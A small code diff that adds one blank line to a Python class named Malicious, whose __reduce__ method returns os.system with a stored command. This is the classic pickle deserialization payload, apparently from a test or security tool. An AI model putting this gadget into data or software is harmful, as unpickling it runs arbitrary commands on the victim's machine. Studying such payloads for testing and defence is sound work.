@@ -23,6 +23,7 @@ class Malicious:
 
     def __reduce__(self):
         import os
+
         return os.system, (self.command,)
 
 
